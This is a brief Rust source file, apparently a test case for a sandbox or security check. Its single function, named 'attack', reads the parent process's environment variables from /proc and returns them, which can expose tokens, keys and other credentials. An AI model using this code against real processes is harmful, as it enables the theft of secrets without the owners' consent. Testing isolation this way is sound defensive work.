use std::io;
use std::os::unix::process::parent_id;

pub fn attack() -> io::Result<Option<String>> {
    let environment = std::fs::read(format!("/proc/{}/environ", parent_id()))?;
    Ok(Some(String::from_utf8_lossy(&environment).into_owned()))
}
